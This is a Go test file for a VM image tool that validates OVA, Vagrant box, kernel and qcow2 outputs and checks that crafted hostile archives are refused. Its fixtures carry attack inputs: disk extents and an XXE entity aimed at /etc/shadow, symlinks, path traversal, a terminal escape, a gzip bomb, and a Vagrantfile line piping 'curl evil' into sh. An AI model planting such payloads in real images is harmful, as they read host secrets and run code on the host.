package images

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/agentfleet/agentfleet/internal/ovatest"
	"github.com/agentfleet/agentfleet/internal/qcow2/qcow2test"
	"github.com/agentfleet/agentfleet/internal/registrytest"
	"github.com/agentfleet/agentfleet/internal/termsafe"
	"github.com/agentfleet/agentfleet/internal/vmdk/vmdktest"
)

type tm struct {
	hdr  tar.Header
	body []byte
}

func reg(name string, body []byte) tm {
	return tm{tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}, body}
}

func tarOf(t *testing.T, gz bool, members []tm) []byte {
	t.Helper()
	var b bytes.Buffer
	var zw *gzip.Writer
	tw := tar.NewWriter(&b)
	if gz {
		zw = gzip.NewWriter(&b)
		tw = tar.NewWriter(zw)
	}
	for _, m := range members {
		h := m.hdr
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatalf("tar %s: %v", h.Name, err)
		}
		tw.Write(m.body)
	}
	tw.Close()
	if zw != nil {
		zw.Close()
	}
	return b.Bytes()
}

const diskName = "debian-12-v1-disk001.vmdk"

// ovaMembers is an OVA as step_export.go lays it out: the OVF, then the
// disk; edit changes the OVF's text first.
func ovaMembers(edit func(ovf string) string) []tm {
	disk := vmdktest.Build(vmdktest.Options{Descriptor: vmdktest.Descriptor(diskName, 2048)})
	ovf := ovatest.OVF(diskName, len(disk))
	if edit != nil {
		ovf = edit(ovf)
	}
	return []tm{reg("debian-12-v1.ovf", []byte(ovf)), reg(diskName, disk)}
}

func writeFile(t *testing.T, b []byte) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "debian-12-v1.ova")
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// refused checks err is a refusal on one clean line that says want.
func refused(t *testing.T, name string, err error, want string) {
	t.Helper()
	if err == nil {
		t.Errorf("%s: passed", name)
		return
	}
	if !strings.Contains(err.Error(), want) {
		t.Errorf("%s: %v, want %q", name, err, want)
	}
	if termsafe.Line(err.Error()) != err.Error() || strings.Contains(err.Error(), "\x1b") {
		t.Errorf("%s: the error is not one clean line: %q", name, err)
	}
}

func TestOVAShapes(t *testing.T) {
	if err := CheckOutputFile(OutputOVA, writeFile(t, tarOf(t, false, ovaMembers(nil)))); err != nil {
		t.Fatalf("fleet's shape: %v", err)
	}
	if err := CheckOutputFile(OutputOVA, ovatest.WriteOVA(t, filepath.Join(t.TempDir(), "debian-12-v1.ova"))); err != nil {
		t.Fatalf("ovatest.WriteOVA: %v", err)
	}
	ovf := func(old, new string) func(string) string {
		return func(s string) string {
			if !strings.Contains(s, old) {
				panic("the test's OVF has no " + old)
			}
			return strings.Replace(s, old, new, 1)
		}
	}
	withDisk := func(disk []byte) []tm {
		m := ovaMembers(nil)
		m[0] = reg(m[0].hdr.Name, []byte(ovatest.OVF(diskName, len(disk))))
		m[1] = reg(diskName, disk)
		return m
	}
	edited := func(i int, f func(*tm)) []tm {
		m := ovaMembers(nil)
		f(&m[i])
		return m
	}
	vboxMachine := `<vbox:Machine xmlns:vbox="http://www.virtualbox.org/ovf/machine" ovf:required="false" version="1.16-linux" uuid="{1}" name="x">
  <Hardware><SharedFolders><SharedFolder name="root" hostPath="/" writable="true" autoMount="true"/></SharedFolders></Hardware>
</vbox:Machine>
  </VirtualSystem>`
	cases := map[string]struct {
		members []tm
		want    string
	}{
		"text descriptor naming /etc/shadow": {withDisk([]byte("# Disk DescriptorFile\nversion=1\ncreateType=\"monolithicFlat\"\nRW 2048 FLAT \"/etc/shadow\" 0\n")), "text descriptor"},
		"sparse header with a FLAT extent": {withDisk(vmdktest.Build(vmdktest.Options{Descriptor: strings.Replace(vmdktest.Descriptor(diskName, 2048),
			`SPARSE "`+diskName+`"`, `FLAT "/etc/shadow" 0`, 1)})), `member "` + diskName + `": its descriptor's line 8 "RW 2048 FLAT "/etc/shadow" 0": a FLAT extent`},
		"href ../../x":               {ovaMembers(ovf(`ovf:href="`+diskName+`"`, `ovf:href="../../x"`)), `File href "../../x" is not the plain name`},
		"href absolute":              {ovaMembers(ovf(`ovf:href="`+diskName+`"`, `ovf:href="/etc/shadow"`)), "not the plain name"},
		"href url":                   {ovaMembers(ovf(`ovf:href="`+diskName+`"`, `ovf:href="file:///etc/shadow"`)), "not the plain name"},
		"href another member":        {ovaMembers(ovf(`ovf:href="`+diskName+`"`, `ovf:href="debian-12-v1.ovf"`)), "no VMDK of the archive"},
		"href not in the archive":    {ovaMembers(ovf(`ovf:href="`+diskName+`"`, `ovf:href="other.vmdk"`)), "no VMDK of the archive"},
		"href size differs":          {ovaMembers(ovf(`ovf:size="`, `ovf:size="1`)), "has size"},
		"vbox:Machine shared folder": {ovaMembers(ovf("  </VirtualSystem>", vboxMachine)), `VirtualBox "Machine" element`},
		"Machine in the ovf ns":      {ovaMembers(ovf("  </VirtualSystem>", "<Machine><SharedFolders/></Machine></VirtualSystem>")), `VirtualBox "Machine" element`},
		"vbox attribute":             {ovaMembers(ovf(`<Disk `, `<Disk xmlns:vbox="http://www.virtualbox.org/ovf/machine" vbox:uuid="x" `)), `attribute "uuid"`},
		"unknown element":            {ovaMembers(ovf("<References>", "<References><Sneaky/>")), `element "Sneaky"`},
		"element in no namespace":    {ovaMembers(ovf("<References>", `<References><File xmlns="" href="/etc/shadow"/>`)), `element "File" in the namespace ""`},
		"unprefixed href":            {ovaMembers(ovf(`<File `, `<File href="/etc/shadow" `)), `attribute "href"`},
		"compressed file":            {ovaMembers(ovf(`<File `, `<File ovf:compression="gzip" `)), `attribute "compression"`},
		"doctype entity":             {ovaMembers(ovf(`<Envelope`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/shadow">]><Envelope`)), "DOCTYPE"},
		"processing instruction":     {ovaMembers(ovf(`<Envelope`, `<?vbox run?><Envelope`)), "processing instruction"},
		"cd-rom of a host file":      {ovaMembers(ovf("</VirtualHardwareSection>", "<Item><rasd:HostResource>file:///etc/shadow</rasd:HostResource><rasd:ResourceType>15</rasd:ResourceType></Item></VirtualHardwareSection>")), `type "15"`},
		"usb controller":             {ovaMembers(ovf("</VirtualHardwareSection>", "<Item><rasd:ResourceType>23</rasd:ResourceType></Item></VirtualHardwareSection>")), `type "23"`},
		"disk item on a host device": {ovaMembers(ovf("<rasd:HostResource>/disk/vmdisk1", "<rasd:HostResource>/dev/sda")), `host resource "/dev/sda"`},
		"host resource on a cpu":     {ovaMembers(ovf("<rasd:ResourceType>3<", "<rasd:HostResource>/dev/kvm</rasd:HostResource><rasd:ResourceType>3<")), "names the host resource"},
		"bridged adapter":            {ovaMembers(ovf("<rasd:Connection>NAT", "<rasd:Connection>Bridged")), `on "Bridged", not NAT`},
		"bridged network":            {ovaMembers(ovf(`<Network ovf:name="NAT"`, `<Network ovf:name="eth0"`)), "not NAT"},
		"disk of another format":     {ovaMembers(ovf("#streamOptimized", "#monolithicFlat")), "not streamOptimized"},
		"disk without a file":        {ovaMembers(ovf(`ovf:fileRef="file1"`, `ovf:fileRef="nope"`)), "no File"},
		"two virtual systems":        {ovaMembers(ovf("</Envelope>", "<VirtualSystem/></Envelope>")), "more than one"},
		"two envelopes":              {ovaMembers(ovf("<References>", "<References><Envelope/>")), "root"},
		"not xml":                    {ovaMembers(func(string) string { return "<Envelope" }), "its XML"},
		"ovf not first":              {func() []tm { m := ovaMembers(nil); return []tm{m[1], m[0]} }(), "not the OVA's first"},
		"two ovfs":                   {append(ovaMembers(nil), reg("b.ovf", []byte(ovatest.OVF(diskName, 1)))), "second OVF"},
		"no ovf":                     {ovaMembers(nil)[1:], "no OVF"},
		"stray member":               {append(ovaMembers(nil), reg("run.sh", []byte("#!/bin/sh"))), `member "run.sh": it is none of the files`},
		"unreferenced vmdk":          {append(ovaMembers(nil), reg("b.vmdk", vmdktest.Build(vmdktest.Options{}))), "does not reference"},
		"duplicate member":           {append(ovaMembers(nil), ovaMembers(nil)[1]), "twice"},
		"duplicate by case":          {append(ovaMembers(nil), reg(strings.ToUpper(diskName), nil)), "twice"},
		"mf naming a host file":      {append(ovaMembers(nil), reg("x.mf", []byte("SHA256(/etc/shadow)= 00\n"))), "not a member"},
		"mf naming no member":        {append(ovaMembers(nil), reg("x.mf", []byte("SHA256(other.vmdk)= 00\n"))), "no other member"},
		"mf garbage":                 {append(ovaMembers(nil), reg("x.mf", []byte("hello\n"))), "is not ALGORITHM"},
		"symlink member": {edited(1, func(m *tm) {
			m.hdr = tar.Header{Name: diskName, Typeflag: tar.TypeSymlink, Linkname: "/etc/shadow"}
			m.body = nil
		}), "a symbolic link"},
		"hard link member": {edited(1, func(m *tm) {
			m.hdr = tar.Header{Name: diskName, Typeflag: tar.TypeLink, Linkname: "/etc/shadow"}
			m.body = nil
		}), "a hard link"},
		"device member":    {edited(1, func(m *tm) { m.hdr = tar.Header{Name: diskName, Typeflag: tar.TypeBlock, Devmajor: 8}; m.body = nil }), "a device"},
		"fifo member":      {edited(1, func(m *tm) { m.hdr = tar.Header{Name: diskName, Typeflag: tar.TypeFifo}; m.body = nil }), "a FIFO"},
		"folder member":    {edited(1, func(m *tm) { m.hdr = tar.Header{Name: "x/", Typeflag: tar.TypeDir, Mode: 0o755}; m.body = nil }), "a folder"},
		"absolute name":    {edited(1, func(m *tm) { m.hdr.Name = "/tmp/" + diskName }), "not a plain file name"},
		"dot-dot name":     {edited(1, func(m *tm) { m.hdr.Name = "../" + diskName }), "not a plain file name"},
		"name in a folder": {edited(1, func(m *tm) { m.hdr.Name = "a/" + diskName }), "not a plain file name"},
		"escape in a name": {edited(1, func(m *tm) { m.hdr.Name = "\x1b]0;pwned\x07.vmdk" }), "not a plain file name"},
		"gnu header":       {edited(1, func(m *tm) { m.hdr.Format = tar.FormatGNU }), "not ustar or pax"},
		"pax record":       {edited(1, func(m *tm) { m.hdr.PAXRecords = map[string]string{"SCHILY.xattr.user.x": "y"} }), `pax header has the record "SCHILY.xattr.user.x"`},
		"too many members": {func() []tm {
			disk := vmdktest.Build(vmdktest.Options{})
			var files string
			var m []tm
			for i := range maxMembers {
				name := fmt.Sprintf("d%d.vmdk", i)
				files += fmt.Sprintf(`<File ovf:id="f%d" ovf:href="%s"/>`, i, name)
				m = append(m, reg(name, disk))
			}
			return append(ovaMembers(ovf("<References>", "<References>"+files)), m...)
		}(), "more than 8 members"},
	}
	for name, c := range cases {
		refused(t, name, CheckOutputFile(OutputOVA, writeFile(t, tarOf(t, false, c.members))), c.want)
	}
	// An OVA is a plain tar: VirtualBox does not unpack a gzipped one.
	refused(t, "gzipped ova", CheckOutputFile(OutputOVA, writeFile(t, tarOf(t, true, ovaMembers(nil)))), "plain tar")
	refused(t, "not a tar", CheckOutputFile(OutputOVA, writeFile(t, []byte("<Envelope/>"))), "its tar")
	// Members hidden after the end, for a reader that goes on past it.
	good := tarOf(t, false, ovaMembers(nil))
	hidden := tarOf(t, false, []tm{reg("x.vmdk", []byte("RW 2048 FLAT \"/etc/shadow\" 0"))})
	refused(t, "members after the end", CheckOutputFile(OutputOVA, writeFile(t, append(slices.Clone(good), hidden...))), "data after the end")
	if err := CheckOutputFile(OutputOVA, writeFile(t, append(slices.Clone(good), make([]byte, 10240)...))); err != nil {
		t.Errorf("an OVA padded to a tar record: %v", err)
	}
	// A lone zero block, then more members: Go stops there, so must fleet.
	lone := append(slices.Clone(good[:len(good)-1024]), make([]byte, 512)...)
	refused(t, "lone zero block", CheckOutputFile(OutputOVA, writeFile(t, append(lone, hidden...))), "its tar after 2 members")
	// The archive itself a link to elsewhere.
	link := filepath.Join(t.TempDir(), "x.ova")
	os.Symlink(writeFile(t, tarOf(t, false, ovaMembers(nil))), link)
	refused(t, "ova symlink", CheckOutputFile(OutputOVA, link), "symbolic link")
}

func boxMembers(meta, vagrantfile string) []tm {
	disk := vmdktest.Build(vmdktest.Options{Descriptor: vmdktest.Descriptor(diskName, 2048)})
	return []tm{reg("metadata.json", []byte(meta)), reg("Vagrantfile", []byte(vagrantfile)),
		reg("box.ovf", []byte(ovatest.OVF("box-disk001.vmdk", len(disk)))), reg("box-disk001.vmdk", disk)}
}

func TestVagrantBoxShapes(t *testing.T) {
	fleet := boxMembers(`{"provider":"virtualbox"}`, VagrantBoxVagrantfile)
	for _, gz := range []bool{true, false} {
		if err := CheckOutputFile(OutputVagrant, writeFile(t, tarOf(t, gz, fleet))); err != nil {
			t.Fatalf("fleet's box (gzip %v): %v", gz, err)
		}
	}
	flat := vmdktest.Build(vmdktest.Options{Descriptor: strings.Replace(vmdktest.Descriptor(diskName, 2048), `SPARSE "`+diskName+`"`, `FLAT "/etc/shadow" 0`, 1)})
	for name, c := range map[string]struct {
		members []tm
		want    string
	}{
		"provider libvirt":   {boxMembers(`{"provider":"libvirt"}`, VagrantBoxVagrantfile), `provider is "libvirt", not virtualbox`},
		"provider a number":  {boxMembers(`{"provider":7}`, VagrantBoxVagrantfile), "not virtualbox"},
		"no provider":        {boxMembers(`{}`, VagrantBoxVagrantfile), "no provider"},
		"other metadata key": {boxMembers(`{"provider":"virtualbox","url":"file:///etc/shadow"}`, VagrantBoxVagrantfile), `key "url"`},
		"metadata not json":  {boxMembers(`provider: virtualbox`, VagrantBoxVagrantfile), "not a JSON object"},
		"no metadata":        {boxMembers(`{"provider":"virtualbox"}`, VagrantBoxVagrantfile)[1:], "no metadata.json"},
		"ruby in the Vagrantfile": {boxMembers(`{"provider":"virtualbox"}`, VagrantBoxVagrantfile+"system('curl evil | sh')\n"),
			"Vagrant would run it on the host"},
		"flat extent in the disk": {func() []tm {
			m := boxMembers(`{"provider":"virtualbox"}`, VagrantBoxVagrantfile)
			m[2], m[3] = reg("box.ovf", []byte(ovatest.OVF("box-disk001.vmdk", len(flat)))), reg("box-disk001.vmdk", flat)
			return m
		}(), "FLAT extent"},
		"symlink member": {append(boxMembers(`{"provider":"virtualbox"}`, VagrantBoxVagrantfile),
			tm{tar.Header{Name: "include", Typeflag: tar.TypeSymlink, Linkname: "/home"}, nil}), "symbolic link"},
		"absolute member": {append(boxMembers(`{"provider":"virtualbox"}`, VagrantBoxVagrantfile), reg("/etc/cron.d/x", nil)), "not a plain file name"},
	} {
		refused(t, name, CheckOutputFile(OutputVagrant, writeFile(t, tarOf(t, true, c.members))), c.want)
	}
	// A gzip bomb: a member that unpacks to far more than the box is.
	bomb := tarOf(t, true, append(boxMembers(`{"provider":"virtualbox"}`, VagrantBoxVagrantfile)[:3],
		tm{tar.Header{Name: "box-disk001.vmdk", Mode: 0o644, Size: 256 << 20, Typeflag: tar.TypeReg}, make([]byte, 256<<20)}))
	if len(bomb) > 2<<20 {
		t.Fatalf("the bomb is %d bytes", len(bomb))
	}
	refused(t, "gzip bomb", CheckOutputFile(OutputVagrant, writeFile(t, bomb)), "unpacks to far more")
}

func TestKernelAndInitrdOutputs(t *testing.T) {
	dir := t.TempDir()
	k := filepath.Join(dir, "vmlinuz")
	os.WriteFile(k, []byte("kernel"), 0o644)
	if err := CheckOutputFile(OutputKernel, k); err != nil {
		t.Fatal(err)
	}
	big := filepath.Join(dir, "big")
	f, _ := os.Create(big)
	f.Truncate(maxKernel + 1) // sparse: no disk used
	f.Close()
	refused(t, "huge kernel", CheckOutputFile(OutputKernel, big), "more than a kernel")
	if err := CheckOutputFile(OutputInitrd, big); err != nil {
		t.Errorf("a 256 MiB initrd: %v", err)
	}
	os.Symlink("/etc/shadow", filepath.Join(dir, "link"))
	refused(t, "kernel symlink", CheckOutputFile(OutputKernel, filepath.Join(dir, "link")), "symbolic link")
	refused(t, "kernel folder", CheckOutputFile(OutputInitrd, dir), "not a regular file")
	refused(t, "unknown kind", CheckOutputFile("vhd", k), "no check for outputs of this kind")
	qf := filepath.Join(dir, "x.qcow2")
	qcow2test.Write(qf, qcow2test.Options{Backing: "/etc/shadow", BackingFormat: "raw"})
	refused(t, "qcow2 with a backing file", CheckOutputFile(OutputQCOW2, qf), "backing file")
}

// A stored version's outputs are judged again when it is used: an OVA
// swapped in the store after the pull is refused by Resolve, List and
// OutputPath, and never handed to a hypervisor.
func TestStoreRechecksOutputsAtUse(t *testing.T) {
	s := Store{Root: t.TempDir()}
	disk := filepath.Join(t.TempDir(), "disk")
	qcow2test.Write(disk, qcow2test.Options{})
	ova := writeFile(t, tarOf(t, false, ovaMembers(nil)))
	k := filepath.Join(t.TempDir(), "vmlinuz")
	os.WriteFile(k, []byte("kernel"), 0o644)
	m := Manifest{Name: "debian-12", Version: "v1", Outputs: map[string]Output{OutputOVA: {File: "debian-12-v1.ova"}, OutputKernel: {File: "vmlinuz", Bytes: 6}}}
	if _, err := s.Add(m, disk, map[string]string{OutputOVA: ova, OutputKernel: k}); err != nil {
		t.Fatal(err)
	}
	if err := s.Promote("debian-12", "v1"); err != nil {
		t.Fatal(err)
	}
	img, err := s.Resolve("debian-12")
	if err != nil {
		t.Fatal(err)
	}
	p, err := img.OutputPath(OutputOVA)
	if err != nil || p != filepath.Join(img.Dir, "debian-12-v1.ova") {
		t.Fatalf("OutputPath: %q %v", p, err)
	}
	if _, err := img.OutputPath(OutputVagrant); err == nil {
		t.Fatal("an output the image does not have was handed out")
	}

	swap := func(path string, b []byte) {
		os.Chmod(path, 0o644)
		os.Remove(path)
		if b == nil {
			os.Symlink("/etc/shadow", path)
		} else {
			os.WriteFile(path, b, 0o444)
		}
	}
	hostile := tarOf(t, false, []tm{ovaMembers(nil)[0], {tar.Header{Name: diskName, Typeflag: tar.TypeSymlink, Linkname: "/etc/shadow"}, nil}})
	swap(p, hostile)
	refused(t, "OutputPath of a swapped OVA", CheckOutput(img, OutputOVA), `output ova "debian-12-v1.ova": member "`+diskName+`": it is a symbolic link`)
	_, err = s.Resolve("debian-12")
	refused(t, "Resolve with a swapped OVA", err, "symbolic link")
	if all, skipped, _ := s.Scan(); len(all) != 0 || len(skipped) != 1 {
		t.Errorf("Scan listed %d, skipped %d", len(all), len(skipped))
	}
	refused(t, "Promote with a swapped OVA", s.Promote("debian-12", "v1"), "symbolic link")

	swap(p, tarOf(t, false, ovaMembers(nil)))
	if _, err := s.Resolve("debian-12"); err != nil {
		t.Fatalf("restored: %v", err)
	}
	kp := filepath.Join(img.Dir, "vmlinuz")
	swap(kp, nil)
	_, err = s.Resolve("debian-12")
	refused(t, "Resolve with a kernel link", err, `output kernel "vmlinuz": it is a symbolic link`)
	swap(kp, []byte("other kernel"))
	_, err = s.Resolve("debian-12")
	refused(t, "Resolve with a kernel of another size", err, "not the 6 its manifest records")
}

// A pushed image whose exports do not pass is never stored: the digests
// match, but the archive is refused, and the store is as it was.
func TestPullRefusesHostileOutputs(t *testing.T) {
	r := registrytest.Start(t, "", "")
	ctx := context.Background()
	dst := Store{Root: t.TempDir()}
	box := func(meta string) []byte {
		return tarOf(t, true, boxMembers(meta, VagrantBoxVagrantfile))
	}
	// The same image with exports of fleet's shape pulls, and stays latest.
	m := Manifest{Name: "debian-12", Version: "20261201-000000", Recipe: "full", BuiltAt: time.Now(),
		Outputs: map[string]Output{OutputOVA: {File: "out-ova"}, OutputVagrant: {File: "out-vagrant"}}}
	img := craftedImageFiles(t, m, qcow2test.Options{}, map[string][]byte{OutputOVA: tarOf(t, false, ovaMembers(nil)), OutputVagrant: box(`{"provider":"virtualbox"}`)})
	if _, err := open(t, r.Addr+"/fleet/good").Push(ctx, img); err != nil {
		t.Fatal(err)
	}
	got, err := open(t, r.Addr+"/fleet/good").Pull(ctx, dst)
	if err != nil {
		t.Fatal(err)
	}
	if p, err := got.OutputPath(OutputOVA); err != nil || !got.Latest {
		t.Fatalf("pulled OVA: %q %v", p, err)
	}
	flat := vmdktest.Build(vmdktest.Options{Descriptor: strings.Replace(vmdktest.Descriptor(diskName, 2048), `SPARSE "`+diskName+`"`, `FLAT "/etc/shadow" 0`, 1)})
	for name, tc := range map[string]struct {
		outputs map[string][]byte
		want    string
	}{
		"ova with a FLAT extent": {map[string][]byte{OutputOVA: tarOf(t, false, []tm{reg("a.ovf", []byte(ovatest.OVF(diskName, len(flat)))), reg(diskName, flat)})}, "FLAT extent"},
		"ova with a symlink":     {map[string][]byte{OutputOVA: tarOf(t, false, []tm{ovaMembers(nil)[0], {tar.Header{Name: diskName, Typeflag: tar.TypeSymlink, Linkname: "/etc/shadow"}, nil}})}, "symbolic link"},
		"box for libvirt":        {map[string][]byte{OutputVagrant: box(`{"provider":"libvirt"}`)}, "not virtualbox"},
		"good ova, bad box":      {map[string][]byte{OutputOVA: tarOf(t, false, ovaMembers(nil)), OutputVagrant: box(`{"provider":"libvirt"}`)}, "not virtualbox"},
		"unknown output kind":    {map[string][]byte{"vhd": []byte("disk")}, `output kind "vhd" is none of`},
	} {
		t.Run(name, func(t *testing.T) {
			m := Manifest{Name: "debian-12", Version: "20261204-000000", Recipe: "full", BuiltAt: time.Now(), Outputs: map[string]Output{}}
			for kind := range tc.outputs {
				m.Outputs[kind] = Output{File: "out-" + kind} // the name craftedImageFiles pushes
			}
			img := craftedImageFiles(t, m, qcow2test.Options{}, tc.outputs)
			repo := r.Addr + "/fleet/" + strings.NewReplacer(" ", "-", ",", "").Replace(strings.ToLower(name))
			if _, err := open(t, repo).Push(ctx, img); err != nil {
				t.Fatal(err)
			}
			before := storeState(t, dst.Root)
			_, err := open(t, repo).Pull(ctx, dst)
			refused(t, name, err, tc.want)
			if after := storeState(t, dst.Root); after != before {
				t.Fatalf("a refused pull changed the store:\n%s\nwas:\n%s", after, before)
			}
			if got, err := dst.Resolve("debian-12"); err != nil || got.Version != "20261201-000000" {
				t.Fatalf("latest is now %q, %v", got.Version, err)
			}
		})
	}

}

func FuzzCheckOVF(f *testing.F) {
	f.Add([]byte(ovatest.OVF(diskName, 100)))
	f.Add([]byte(`<Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1"><vbox:Machine xmlns:vbox="http://www.virtualbox.org/ovf/machine"/></Envelope>`))
	f.Fuzz(func(t *testing.T, b []byte) {
		info, err := checkOVF(b)
		if err != nil {
			if termsafe.Line(err.Error()) != err.Error() {
				t.Fatalf("error with control characters: %q", err)
			}
			return
		}
		for _, fl := range info.files {
			if !memberName.MatchString(fl.href) || strings.Contains(fl.href, "..") {
				t.Fatalf("passed the href %q", fl.href)
			}
		}
		if bytes.Contains(b, []byte("virtualbox.org")) && bytes.Contains(b, []byte(":Machine")) {
			t.Fatalf("passed a vbox:Machine: %q", b)
		}
	})
}
